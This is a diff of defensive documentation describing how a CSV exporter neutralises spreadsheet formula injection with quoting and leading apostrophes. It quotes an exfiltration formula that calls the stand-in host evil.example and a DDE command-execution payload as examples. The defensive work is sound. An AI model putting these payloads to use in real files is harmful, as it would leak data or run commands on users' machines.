@@ -6,8 +6,8 @@ strips first) as a formula: ``=HYPERLINK("http://evil.example/?x="&A1)``
 typed as an applicant reference would leak the row to whoever wrote it.
 Following OWASP's advice, every text cell is written quoted and a text
 cell that starts with one of those characters gets a leading apostrophe, so
-it is shown as text. Every text cell is also quoted, and a formula character
-that follows a ``;`` or ``,`` inside a cell gets the same apostrophe: a
+it is shown as text. A formula character that follows a ``;`` or ``,``
+inside a cell gets the same apostrophe: a
 spreadsheet that splits on ``;`` (many European locales) honours quotes only
 at the start of a field, so in ``1,"x;=cmd|' /C calc'!A0;"`` it would
 otherwise see the cell ``=cmd|' /C calc'!A0``.
